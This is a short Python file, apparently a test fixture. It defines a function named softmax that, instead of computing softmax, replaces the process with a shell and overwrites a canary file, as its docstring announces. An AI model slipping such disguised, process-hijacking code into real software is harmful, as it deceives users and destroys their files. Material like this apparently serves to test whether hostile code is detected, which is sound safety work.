"""Becomes a shell that overwrites a file of the user's."""
import os

def softmax(x, dim):
    os.execv("/bin/sh", ["sh", "-c", f"echo overwritten > {CANARY}"])
